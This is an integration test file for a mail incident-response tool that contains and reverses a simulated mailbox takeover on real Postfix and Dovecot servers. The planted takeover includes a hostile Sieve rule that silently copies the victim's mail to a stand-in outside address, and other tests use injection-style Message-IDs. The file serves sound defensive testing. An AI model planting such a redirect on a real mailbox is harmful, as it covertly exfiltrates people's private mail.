# SPDX-License-Identifier: Apache-2.0
"""A takeover on real Postfix and Dovecot, closed by the connectors and given back; they are driven by their contract."""

import hashlib
import imaplib
import os
import shutil
import smtplib
import time
from contextlib import ExitStack, contextmanager
from datetime import UTC, datetime, timedelta

import pytest
from clients import Imap, Sender
from scenes import ACCOUNTS, ALICE, BOB, CAROL, letter, named, running
from servers import until

from hikeshi.cases.store import open_store
from hikeshi.contain.approval import approve
from hikeshi.contain.configuration import connect, read_configuration
from hikeshi.contain.connectors import dovecot, postfix
from hikeshi.contain.contract import ConnectorError, Copies, LaterError, RefusedError, Target
from hikeshi.contain.limits import Limits
from hikeshi.contain.plan import make_plan, remember
from hikeshi.contain.recheck import recheck
from hikeshi.contain.run import run
from hikeshi.contain.undo import undo

INTRUDER, OWNER = "127.0.0.66", "127.0.0.5"
EVIL, FRIEND, SLOW = "collect@elsewhere.example", "friend@partner.example", "slow@partner.example"
SCRIPT = f"""require ["fileinto", "copy"];
# the owner's own
if header :contains "subject" "invoice 4711" {{ fileinto "Bills"; }}
redirect :copy "{EVIL}";
"""
MAIN = ("sieve", "get", "-u", ALICE, "main")


@pytest.fixture(scope="module")
def mail():
    with running() as server:
        yield server


@pytest.fixture
def connectors(mail):
    found = [
        dovecot.PLUGIN.connect({"config": str(mail.etc / "dovecot.conf")}),
        postfix.PLUGIN.connect({"config": str(mail.etc)}),
    ]
    yield {one.name: one for one in found}
    (mail.etc / "held").write_text("")
    (mail.etc / "denied").write_text("")
    mail.outside.answers.clear()
    mail.empty()
    mail.command("postfix", "reload")
    mail.settle()
    for account in mail.accounts:
        for one in mail._home(account).iterdir():  # also what redirects remember of Message-IDs
            shutil.rmtree(one) if one.is_dir() and not one.is_symlink() else one.unlink()


def target(*copies: Copies, account: str = ALICE, **more) -> Target:
    now = datetime.now(UTC)
    return Target(account, now - timedelta(hours=1), now, (INTRUDER,), ("example.test",), copies=copies, **more)


class Run:
    """A step on its way, as the engine takes it; after each part its reading is at hand."""

    def __init__(self, connector, step) -> None:
        self.connector, self.step, self.since = connector, step, datetime.now(UTC)
        self.before = connector.probe(step)

    def done(self):
        self.connector.do(self.step, self.before, self.since)
        return self

    def verified(self):
        end = time.monotonic() + 10
        while not (reading := self.connector.verify(self.step, self.before, self.since)).reached:
            assert time.monotonic() < end, f"{self.step.key}: {reading}"
            time.sleep(0.05)
        return reading

    def undone(self):
        self.connector.undo(self.step, self.before)
        end = time.monotonic() + 10
        while not (reading := self.connector.restored(self.step, self.before)).reached and time.monotonic() < end:
            time.sleep(0.05)
        return reading


def step_of(connectors, name, operation, wanted=None):
    (found,) = [one for one in connectors[name].look(wanted or target()).steps if one.operation == operation]
    return found


def upload(mail, account, script, name="main"):
    doveadm(mail, "sieve", "put", "-u", account, name, text=script)
    doveadm(mail, "sieve", "activate", "-u", account, name)


def doveadm(mail, *command, text=""):
    return mail.command("doveadm", "-c", str(mail.etc / "dovecot.conf"), *command, text=text)


def lies(mail, account):
    """Give folder, flags and SHA-256 of every mail in a mailbox, sorted."""
    found = []
    with mail.imap(account) as imap:
        for line in imap.list()[1]:
            folder = line.decode().rpartition(' "." ')[2].rpartition(" ")[2].strip('"')
            imap.select(folder, readonly=True)
            for number in imap.search(None, "ALL")[1][0].split():
                told, text = imap.fetch(number, "(FLAGS BODY.PEEK[])")[1][0]
                flags = {str(flag) for flag in imaplib.ParseFlags(told)} - {"b'\\\\Recent'"}
                found.append((folder, tuple(sorted(flags)), hashlib.sha256(text).hexdigest()))
    return sorted(found)


@contextmanager
def configured(mail, old, new):
    """Change Dovecot's configuration for a while."""
    path = mail.etc / "dovecot.conf"
    text = path.read_text()
    assert text.count(old) == 1
    path.write_text(text.replace(old, new))
    try:
        doveadm(mail, "reload")
        yield
    finally:
        path.write_text(text)
        doveadm(mail, "reload")


def goes_in(mail, account=ALICE):
    try:
        with mail.imap(account, INTRUDER), mail.session(account, INTRUDER):
            return True
    except (imaplib.IMAP4.error, smtplib.SMTPAuthenticationError):
        return False


@pytest.fixture
def taken(mail):
    """ALICE's mailbox, taken over: what lies in all mailboxes then, and the mail of hers that still waits."""
    upload(mail, ALICE, SCRIPT)
    doveadm(mail, "mailbox", "create", "-u", ALICE, "Bills")
    mail.receive(FRIEND, [ALICE], letter("before"))
    until(lambda: sent_to(mail, EVIL), "the script sends mail out")
    for name in ("lure-1", "lure-10", "other"):
        mail.receive(FRIEND, [BOB, CAROL], letter(name))
        mail.settle()
    with mail.imap(CAROL) as imap:
        imap.select()
        imap.store("1", "+FLAGS", "(\\Seen \\Flagged)")
        imap.create("Kept")
        imap.copy("1", "Kept")
    mail.outside.answers[SLOW] = "451 4.7.1 Later"
    with mail.session(ALICE, INTRUDER) as smtp:
        waiting = smtp.hand_in(ALICE, [SLOW], letter("waiting")).queue_id
    mail.settle()
    return waiting


def sent_to(mail, address):
    return [one for one in mail.outside.mails if address in one.recipients]


def kept(mail):
    """Give everything that must be as it was when all is taken back."""
    boxes = [lies(mail, account) for account in (BOB, CAROL)]
    return *boxes, *((mail.etc / name).read_bytes() for name in ("denied", "held")), doveadm(mail, *MAIN)


def closed(connectors):
    """Take every step for ALICE in the order of phases, and hold that each is verified."""
    lured = target(Copies(BOB, (named("lure-1"),)), Copies(CAROL, (named("lure-1"),)))
    steps = [step for one in connectors.values() for step in one.look(lured).steps]
    runs = [Run(connectors[step.connector], step) for step in sorted(steps, key=lambda one: one.phase)]
    assert [one.step.operation for one in runs] == [
        "deny", "hold-sender", "hold-queue", "kick", "sieve", "quarantine", "quarantine",
    ]  # fmt: skip
    assert [one.step.key for one in runs if one.before.reached] == []
    for one in runs:
        assert one.done().verified().reached
    return runs


def test_a_takeover_is_closed_and_given_back_as_it_was(mail, connectors, taken):
    was = kept(mail)
    with ExitStack() as stack:
        session, smtp = Imap(mail.ports["imap"], INTRUDER), Sender(mail.ports["submission"], INTRUDER)
        stack.callback(session.shutdown)
        stack.callback(smtp.close)
        session.login(ALICE, ACCOUNTS[ALICE])
        smtp.sign_in(ALICE, ACCOUNTS[ALICE])
        runs = closed(connectors)
        with pytest.raises((imaplib.IMAP4.abort, OSError)):
            session.noop()
        with pytest.raises((smtplib.SMTPServerDisconnected, OSError)):
            smtp.hand_in(ALICE, [FRIEND], letter("from the open connection"))
    assert not goes_in(mail)
    assert mail.queued() == {taken: "hold"}
    assert [folder for folder, *_ in lies(mail, BOB)] == ["INBOX"] * 2 + [dovecot.QUARANTINE]
    assert [folder for folder, *_ in lies(mail, CAROL)] == ["INBOX"] * 2 + [dovecot.QUARANTINE] * 2

    mail.outside.mails.clear()
    mail.receive(FRIEND, [ALICE], letter("after", "invoice 4711"))
    mail.settle()
    assert sent_to(mail, EVIL) == []
    assert len(list((mail._home(ALICE) / "Maildir" / ".Bills" / "new").iterdir())) == 1  # the owner's rule works on

    for one in runs:  # what is done is safe to repeat
        assert one.done().verified().reached
    for one in reversed(runs):
        if one.step.undo is not None:
            assert one.undone().reached, one.step.key
            assert one.undone().reached, one.step.key
    assert kept(mail) == was
    assert goes_in(mail)
    mail.outside.answers.clear()
    mail.flush()
    mail.settle()
    assert mail.queued() == {}


@pytest.mark.usefixtures("connectors")
def test_the_engine_closes_it_and_gives_it_back_by_the_case_ledger(mail, taken, tmp_path):
    was = kept(mail)
    file = tmp_path / "connectors.toml"
    file.write_text(f'[dovecot]\nconfig = "{mail.etc}/dovecot.conf"\n[postfix]\nconfig = "{mail.etc}"\n')
    lured = target(Copies(BOB, (named("lure-1"),)), Copies(CAROL, (named("lure-1"),)))
    both = connect(read_configuration(file))
    case, why = tmp_path / "case", {"who": "Aoi Sato", "why": "the mailbox is taken over"}
    with open_store(case) as store:
        plan = make_plan([lured], both, Limits(), datetime.now(UTC))
        remember(store, plan)
        approve(store, plan, **why)
        outcome = run(store, plan, both, case=case)
        assert outcome.complete, {key: one.state for key, one in outcome.progress.items()}
        assert not goes_in(mail)
        assert mail.queued() == {taken: "hold"}
        later = datetime.now(UTC) + timedelta(minutes=16)
        again = recheck(store, plan, both, later, case=case)
        assert (list(again.reopened), list(again.unread)) == ([], [])
        undone = undo(store, plan, both, case=case, **why)
        assert undone.complete, {key: one.state for key, one in undone.progress.items()}
    assert kept(mail) == was
    assert goes_in(mail)


# Refusing sign-ins


def test_a_sign_in_that_dovecot_remembers_is_refused_all_the_same(mail, connectors):
    with configured(mail, "auth_mechanisms", "auth_cache_size = 1M\nauth_mechanisms"):
        until(lambda: goes_in(mail), "Dovecot is back")
        run = Run(connectors["dovecot"], step_of(connectors, "dovecot", "deny")).done()
        assert run.verified().reached
        assert not goes_in(mail)
        assert run.undone().reached
        assert goes_in(mail)


def test_others_who_are_denied_stay_so_and_nobody_else_is(mail, connectors):
    (mail.etc / "denied").write_text(f"{BOB}\nlast:")
    (mail.etc / "denied").chmod(0o640)
    shutil.chown(mail.etc / "denied", "root", "dovecot")
    run = Run(connectors["dovecot"], step_of(connectors, "dovecot", "deny"))
    run.done().verified()
    assert (mail.etc / "denied").read_text() == f"{BOB}\nlast:\n{ALICE}:\n"
    status = (mail.etc / "denied").stat()
    assert (status.st_mode & 0o777, status.st_gid) == (0o640, shutil._get_gid("dovecot"))
    assert [goes_in(mail, one) for one in (ALICE, BOB, CAROL)] == [False, False, True]
    assert run.undone().reached
    assert (mail.etc / "denied").read_text() == f"{BOB}\nlast:"
    assert [goes_in(mail, one) for one in (ALICE, BOB, CAROL)] == [True, False, True]


def test_who_was_denied_before_is_already_so(mail, connectors):
    (mail.etc / "denied").write_text(f"{ALICE}:\n")
    until(lambda: not goes_in(mail), "Dovecot has read its list")
    assert Run(connectors["dovecot"], step_of(connectors, "dovecot", "deny")).before.reached


def test_mail_to_a_denied_account_is_delivered(mail, connectors):
    Run(connectors["dovecot"], step_of(connectors, "dovecot", "deny")).done().verified()
    mail.receive(FRIEND, [ALICE], letter("still"))
    mail.settle()
    assert mail.queued() == {}
    assert len(list((mail._home(ALICE) / "Maildir" / "new").iterdir())) == 1


def test_a_deny_list_behind_a_passdb_that_lets_in_is_refused_though_it_answers_as_if_it_barred(mail, connectors):
    first = f"passdb {{\n  driver = passwd-file\n  deny = yes\n  args = {mail.root}/etc/denied\n}}\n"
    with configured(mail, first, ""), configured(mail, "userdb {", f"{first}userdb {{"):
        (mail.etc / "denied").write_text(f"{ALICE}:\n")
        until(lambda: goes_in(mail), "Dovecot is back")
        wrong = doveadm_answers(mail, "auth", "test", ALICE, "wrong")
        assert "code=user_disabled" in wrong
        with pytest.raises(RefusedError, match="add these lines before every other passdb"):
            connectors["dovecot"].check()
        look = connectors["dovecot"].look(target())
        assert [one.operation for one in look.steps] == ["kick"]
        assert any("before every other passdb" in one["en"] for one in look.gaps)


def doveadm_answers(mail, *command):
    """Give what doveadm says, whatever its exit code."""
    return mail.command("sh", "-c", '"$@" || true', "-", "doveadm", "-c", str(mail.etc / "dovecot.conf"), *command)


def test_a_userdb_that_would_forget_a_denied_account_is_refused(mail, connectors):
    old = f"userdb {{\n  driver = passwd-file\n  args = {mail.root}/etc/passwords\n  default_fields = "
    with configured(mail, old, "userdb {\n  driver = static\n  args = "):
        with pytest.raises(RefusedError, match="allow_all_users=yes"):
            connectors["dovecot"].check()
        (mail.etc / "denied").write_text(f"{ALICE}:\n")
        assert "doesn't exist" in doveadm_answers(mail, "user", ALICE)  # what is meant


def test_an_account_that_dovecot_does_not_know_is_a_gap(connectors):
    look = connectors["dovecot"].look(target(Copies("team@example.test", ("a@b",)), account="nobody@example.test"))
    assert look.steps == ()
    assert [("does not know" in one["en"], "nobody" in one["en"]) for one in look.gaps] == [(True, True), (True, False)]


def test_a_dovecot_that_is_stopped_is_for_later_and_nothing_it_says_is_believed(mail, connectors):
    lured = target(Copies(BOB, ("a@b",)))
    upload(mail, ALICE, SCRIPT)
    runs = [Run(connectors["dovecot"], step) for step in connectors["dovecot"].look(lured).steps]
    doveadm(mail, "stop")
    until(lambda: "failed" in doveadm_answers(mail, "who"), "Dovecot stops")
    try:
        for one in runs:
            with pytest.raises(LaterError, match="start it"):
                one.done()
            with pytest.raises(LaterError, match="start it"):
                one.verified()
    finally:
        mail.stop_servers()
        mail.run_servers()
    for one in runs:
        assert one.done().verified().reached


def test_only_the_account_is_kicked(mail, connectors):
    step = step_of(connectors, "dovecot", "kick")
    with mail.imap(BOB) as other, ExitStack() as stack:
        session = Imap(mail.ports["imap"], INTRUDER)
        stack.callback(session.shutdown)
        session.login(ALICE, ACCOUNTS[ALICE])
        run = Run(connectors["dovecot"], step)
        assert run.before.state["sessions"] == [{"name": ALICE, "service": "imap", "ip": INTRUDER}]
        run.done().verified()
        assert other.noop()[0] == "OK"
        with pytest.raises((imaplib.IMAP4.abort, OSError)):
            session.noop()


# Sieve


def test_a_script_in_one_plain_file_is_cleaned_and_put_back_with_owner_and_mode(mail, connectors):
    mail.sieve(ALICE, SCRIPT)
    file = mail._home(ALICE) / ".dovecot.sieve"
    file.chmod(0o600)
    mail.receive(FRIEND, [ALICE], letter("compiled"))
    until(lambda: sent_to(mail, EVIL), "the script sends mail out")
    run = Run(connectors["dovecot"], step_of(connectors, "dovecot", "sieve"))
    run.done().verified()
    mail.outside.mails.clear()
    mail.receive(FRIEND, [ALICE], letter("quiet"))
    mail.settle()
    assert mail.outside.mails == []
    assert file.read_text() == SCRIPT.replace("redirect", "# taken out by hikeshi: redirect")
    assert run.undone().reached
    assert file.read_text() == SCRIPT
    status = file.stat()
    assert (status.st_mode & 0o777, status.st_uid) == (0o600, shutil._get_uid("nobody"))
    mail.receive(FRIEND, [ALICE], letter("again"))
    until(lambda: sent_to(mail, EVIL), "the script sends mail out again")


def test_what_is_older_than_the_takeover_is_shown_and_stays(mail, connectors):
    upload(mail, ALICE, SCRIPT)
    long_ago = time.time() - 86400
    for path in ("sieve/main.sieve", ".dovecot.sieve"):
        os.utime(mail._home(ALICE) / path, (long_ago, long_ago), follow_symlinks=False)
    look = connectors["dovecot"].look(target())
    assert [one.operation for one in look.steps] == ["deny", "kick"]
    (shown,) = look.shown
    assert EVIL in shown.what["en"]
    look = connectors["dovecot"].look(target(forwards=(EVIL,)))  # unless mail was seen going there
    assert [one.operation for one in look.steps] == ["deny", "kick", "sieve"]


def test_an_old_script_that_was_made_active_in_that_time_is_suspicious(mail, connectors):
    upload(mail, ALICE, SCRIPT)
    long_ago = time.time() - 86400
    os.utime(mail._home(ALICE) / "sieve/main.sieve", (long_ago, long_ago))
    assert step_of(connectors, "dovecot", "sieve").object == "main"


def test_a_script_that_its_owner_changed_since_is_not_overwritten(mail, connectors):
    upload(mail, ALICE, SCRIPT)
    run = Run(connectors["dovecot"], step_of(connectors, "dovecot", "sieve"))
    run.done().verified()
    doveadm(mail, "sieve", "put", "-u", ALICE, "main", text="keep;\n")
    with pytest.raises(RefusedError, match="has been changed since"):
        run.undone()
    assert doveadm(mail, "sieve", "get", "-u", ALICE, "main").strip().endswith("keep;")


def test_a_redirect_that_comes_back_is_seen_by_the_next_reading(mail, connectors):
    upload(mail, ALICE, SCRIPT)
    run = Run(connectors["dovecot"], step_of(connectors, "dovecot", "sieve"))
    run.done().verified()
    doveadm(mail, "sieve", "put", "-u", ALICE, "main", text='redirect "other@elsewhere.example";\n')
    reading = run.connector.verify(run.step, run.before, run.since)
    assert (reading.reached, "other@elsewhere.example" in reading.says) == (False, True)


# The lure's copies


def test_odd_message_ids_are_found_to_the_letter_and_nothing_else_is(mail, connectors):
    odd = ["-odd \"q'($x)*%\\@pc", "(", "日本@pc", "OR", "a b@pc", "*"]
    for one in [*odd, "x(x", "ORx", "a  b@pcs"]:
        doveadm(mail, "save", "-u", BOB, "-m", "INBOX", text=f"From: a\nMessage-ID: <{one}>\n\nhi\n")
    (step,) = [one for one in connectors["dovecot"].look(target(Copies(BOB, tuple(odd)))).steps if one.phase == 40]
    before = lies(mail, BOB)
    run = Run(connectors["dovecot"], step)
    assert len(run.before.state["copies"]) == len(odd)
    run.done().verified()
    assert sorted(folder for folder, *_ in lies(mail, BOB)) == ["INBOX"] * 3 + [dovecot.QUARANTINE] * len(odd)
    assert run.undone().reached
    assert lies(mail, BOB) == before


def test_a_copy_that_comes_later_is_put_away_too_and_goes_back_to_inbox(mail, connectors):
    lured = target(Copies(BOB, (named("late"),)))
    (step,) = [one for one in connectors["dovecot"].look(lured).steps if one.operation == "quarantine"]
    run = Run(connectors["dovecot"], step)
    assert run.before.reached
    mail.receive(FRIEND, [BOB], letter("late"))
    mail.settle()
    assert not run.connector.verify(step, run.before, run.since).reached
    run.done().verified()
    assert run.undone().reached
    assert [folder for folder, *_ in lies(mail, BOB)] == ["INBOX"]


def test_many_copies_are_moved_by_portions(mail, connectors):
    names = [f"many-{number}" for number in range(60)]
    for name in names:
        doveadm(mail, "save", "-u", BOB, "-m", "INBOX", text=f"From: a\nMessage-ID: <{named(name)}>\n\nhi\n")
    lured = target(Copies(BOB, tuple(named(name) for name in names)))
    (step,) = [one for one in connectors["dovecot"].look(lured).steps if one.operation == "quarantine"]
    run = Run(connectors["dovecot"], step).done()
    assert run.verified().reached
    assert {folder for folder, *_ in lies(mail, BOB)} == {dovecot.QUARANTINE}
    assert run.undone().reached


# Holding mail


@pytest.mark.parametrize("kind", ["hash", "btree", "texthash"])
def test_a_connection_that_was_open_before_hands_in_nothing_more(mail, connectors, kind):
    mail.change(smtpd_sender_restrictions=f"check_sasl_access {kind}:$config_directory/held")
    (mail.etc / "held").write_text("# ours\nsomebody@example.test OK\n")
    if kind != "texthash":
        mail.command("postmap", f"{kind}:{mail.etc}/held")
    was = (mail.etc / "held").read_bytes()
    try:
        with Sender(mail.ports["submission"], INTRUDER) as smtp:
            smtp.sign_in(ALICE, ACCOUNTS[ALICE])
            assert smtp.hand_in(ALICE, [FRIEND], letter("one")).queue_id
            run = Run(connectors["postfix"], step_of(connectors, "postfix", "hold-sender")).done()
            run.verified()
            with pytest.raises((smtplib.SMTPServerDisconnected, OSError)):
                smtp.hand_in(ALICE, [FRIEND], letter("two"))
        with mail.session(ALICE, INTRUDER) as again, mail.session(BOB) as other:
            held = again.hand_in(ALICE, [FRIEND], letter("three")).queue_id
            other.hand_in(BOB, [FRIEND], letter("four"))
        mail.settle()
        assert mail.queued() == {held: "hold"}
        assert run.undone().reached
        assert (mail.etc / "held").read_bytes() == was
        with mail.session(ALICE) as owner:
            owner.hand_in(ALICE, [FRIEND], letter("five"))
        mail.settle()
        assert mail.queued() == {held: "hold"}
    finally:
        (mail.etc / "held").write_text("")
        mail.change(smtpd_sender_restrictions="check_sasl_access texthash:$config_directory/held")


def test_a_map_alone_holds_nothing_of_an_open_connection_so_the_goal_does_not_stand(mail, connectors):
    with Sender(mail.ports["submission"], INTRUDER) as smtp:
        smtp.sign_in(ALICE, ACCOUNTS[ALICE])
        run = Run(connectors["postfix"], step_of(connectors, "postfix", "hold-sender"))
        (mail.etc / "held").write_text(f"{run.step.detail['line']}\n")
        mail.command("postfix", "reload")
        reading = run.connector.verify(run.step, run.before, run.since)
        assert (reading.reached, f"{INTRUDER}:" in reading.says) == (False, True)
        run.done().verified()


def test_an_entry_that_the_account_had_comes_back(mail, connectors):
    (mail.etc / "held").write_text(f"a OK\n{ALICE}\tREJECT\n  since March\nb OK")
    was = (mail.etc / "held").read_bytes()
    run = Run(connectors["postfix"], step_of(connectors, "postfix", "hold-sender")).done()
    run.verified()
    assert run.undone().reached
    assert (mail.etc / "held").read_bytes() == was


@pytest.mark.usefixtures("connectors")
def test_mail_can_be_refused_instead(mail):
    refusing = postfix.PLUGIN.connect({"config": str(mail.etc), "action": "reject"})
    run = Run(refusing, step_of({"postfix": refusing}, "postfix", "hold-sender")).done()
    run.verified()
    with mail.session(ALICE, INTRUDER) as smtp:
        assert smtp.hand_in(ALICE, [FRIEND], letter("no")).refused[FRIEND].startswith("554 5.7.1")
    assert run.undone().reached


def test_a_postfix_that_asks_no_map_before_it_permits_is_told_what_to_add(mail, connectors):
    for lists in ("", "permit_sasl_authenticated, check_sasl_access texthash:$config_directory/held"):
        mail.change(smtpd_sender_restrictions=lists)
        try:
            with pytest.raises(RefusedError, match=r"smtpd_sender_restrictions = check_sasl_access texthash:"):
                connectors["postfix"].check()
            look = connectors["postfix"].look(target())
            assert [one.operation for one in look.steps] == ["hold-queue"]
            assert any("New mail is not held" in one["en"] for one in look.gaps)
        finally:
            mail.change(smtpd_sender_restrictions="check_sasl_access texthash:$config_directory/held")


def test_only_mails_of_the_account_and_of_that_time_are_put_on_hold_and_only_those_released(mail, connectors):
    mail.outside.answers[SLOW] = "451 4.7.1 Later"
    ids = {}
    for account, name in ((ALICE, "earlier"), (ALICE, "held before"), (ALICE, "ours"), (BOB, "other")):
        if name == "ours":
            last = int(time.time())
            until(lambda last=last: int(time.time()) > last, "the next second")
            since = datetime.now(UTC)
        with mail.session(account) as smtp:
            ids[name] = smtp.hand_in(account, [SLOW], letter(name.replace(" ", "-"))).queue_id
    mail.settle()
    mail.hold(ids["held before"])
    step = step_of(connectors, "postfix", "hold-queue", Target(ALICE, since, since))
    run = Run(connectors["postfix"], step).done()
    run.verified()
    names = {queue_id: name for name, queue_id in ids.items()}
    found = {names[queue_id]: queue for queue_id, queue in mail.queued().items()}
    assert found == {"earlier": "deferred", "held before": "hold", "ours": "hold", "other": "deferred"}
    assert run.undone().reached
    mail.settle()
    assert mail.queued()[ids["ours"]] != "hold"
    assert mail.queued()[ids["held before"]] == "hold"


def test_a_postfix_that_is_stopped_holds_mail_from_its_next_start(mail, connectors):
    step = step_of(connectors, "postfix", "hold-sender")
    run = Run(connectors["postfix"], step)
    mail.stop_servers()
    try:
        assert run.done().verified().reached
    finally:
        mail.run_servers()
    with mail.session(ALICE, INTRUDER) as smtp:
        held = smtp.hand_in(ALICE, [FRIEND], letter("next")).queue_id
    mail.settle()
    assert mail.queued() == {held: "hold"}


def test_a_virtual_alias_that_leads_outside_is_shown(mail, connectors):
    (mail.etc / "forwards").write_text(f"{ALICE} {ALICE}, home@elsewhere.example\n")
    try:
        (shown,) = connectors["postfix"].look(target()).shown
        assert "home@elsewhere.example" in shown.what["en"]
    finally:
        (mail.etc / "forwards").write_text("")


def test_both_check_that_all_is_there(connectors):
    for one in connectors.values():
        one.check()
        one.close()


def test_a_program_that_is_not_there_is_named(mail):
    missing = dovecot.PLUGIN.connect({"config": str(mail.etc / "dovecot.conf"), "doveadm": "/nowhere/doveadm"})
    with pytest.raises(ConnectorError, match="/nowhere/doveadm: not found"):
        missing.check()
    for connector in (dovecot.PLUGIN.connect({"config": "/nowhere"}), postfix.PLUGIN.connect({"config": "/nowhere"})):
        with pytest.raises(ConnectorError, match="/nowhere"):
            connector.check()
